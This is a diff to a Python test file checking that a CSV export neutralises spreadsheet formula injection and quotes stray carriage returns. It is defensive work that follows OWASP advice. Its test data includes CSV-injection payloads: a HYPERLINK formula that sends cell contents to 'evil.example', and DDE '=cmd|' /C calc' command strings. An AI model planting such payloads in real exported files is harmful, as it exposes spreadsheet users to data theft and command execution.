@@ -1,12 +1,16 @@
-"""The CSV a spreadsheet user downloads: solver round-off is not written out."""
+"""The CSV a spreadsheet user downloads: solver round-off is not written out, and no text of a
+config (a team id, a name) can run as a formula or start a row of its own."""
 
 from __future__ import annotations
 
+import csv
+import io
 import math
 
 import pandas as pd
+import pytest
 
-from homeward.exports import csv_text, tidy, without_round_off
+from homeward.exports import FORMULA_STARTS, csv_text, tidy, without_round_off
 
 
 def test_solver_round_off_is_written_as_a_spreadsheet_shows_it() -> None:
@@ -52,3 +56,77 @@ def test_a_change_is_round_off_only_beside_the_figures_it_is_between() -> None:
     assert without_round_off(-1.1e-13, 0.0) == 0.0
     assert without_round_off(-0.01, 4_100_000.0) == -0.01
     assert without_round_off(2e-09, 0.5, 0.5) == 2e-09  # small figures: a change of 2e-09 of 1
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ('=HYPERLINK("https://evil.example/?d="&A2,"Open")', "'=HYPERLINK("),
+        ("+SUM(1,1)", "'+SUM(1,1)"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)"),
+        ("\t=2+2", "'\t=2+2"),
+        ("\r=3+3", "'\r=3+3"),
+        ("north", "north"),
+    ],
+)
+def test_text_a_spreadsheet_would_run_is_written_as_text(text: str, written: str) -> None:
+    """OWASP's advice: a `'` before a text cell starting = + - @, a tab or a carriage return
+    (a spreadsheet shows it as written; Python's csv reader gives it with the `'`)."""
+    rows = _cells(csv_text(pd.DataFrame({"team": [text], "hours": [1.5]})))
+    assert rows[0] == ["team", "hours"] and len(rows) == 2
+    assert rows[1][0].startswith(written) and rows[1][0].endswith(text[1:])
+    assert rows[1][0] in (text, "'" + text)
+
+
+def test_a_carriage_return_inside_a_cell_is_quoted_so_it_starts_no_row() -> None:
+    """Python's csv quotes only for its line terminator's characters, `\\n` here: a bare
+    `\\r` was written unquoted and read as a new row holding `=cmd|...` in column A."""
+    frame = pd.DataFrame(
+        {
+            "team": ["north\r=cmd|' /C calc'!A0", "a\r\nb", "c\nd", "plain"],
+            "hours": [1.0, 2.0, 3.0, 4.0],
+        }
+    )
+    text = csv_text(frame)
+    assert _cells(text) == [
+        ["team", "hours"],
+        ["north\r=cmd|' /C calc'!A0", "1.0"],
+        ["a\r\nb", "2.0"],
+        ["c\nd", "3.0"],
+        ["plain", "4.0"],
+    ]
+    assert text.endswith('"c\nd",3.0\nplain,4.0\n')  # rows still end in \\n alone
+
+
+def test_numbers_keep_their_sign_and_their_form() -> None:
+    """A negative figure stays a number (a real backtest's total_error_q10 of -0.09), in a
+    float column or as text among others (a summary's `value`), and a frame without text to
+    change is written as before."""
+    frame = pd.DataFrame(
+        {
+            "unique_id": ["referrals/ot/rugby", "referrals/ot/warwick"],
+            "total_error_q10": [-0.09, -0.01561852192],
+            "value": ["-0.09", -3],
+            "period": [-1, 2],
+        }
+    )
+    assert csv_text(frame).splitlines() == [
+        "unique_id,total_error_q10,value,period",
+        "referrals/ot/rugby,-0.09,-0.09,-1",
+        "referrals/ot/warwick,-0.01561852192,-3,2",
+    ]
+
+
+def test_no_cell_of_a_written_frame_starts_as_a_formula_unless_it_is_a_number() -> None:
+    payloads = ["=1+1", "\t=1", "\r-9+9", "@x", "+x", "-x", "-1.5e-3", "ok\r=2"]
+    text = csv_text(pd.DataFrame({"a": payloads, "b": [-1.25] * len(payloads)}))
+    rows = _cells(text)[1:]
+    assert len(rows) == len(payloads)
+    for cell in (c for row in rows for c in row):
+        if cell.startswith(FORMULA_STARTS):
+            float(cell)  # a number (-1.5e-3, -1.25), never text to run
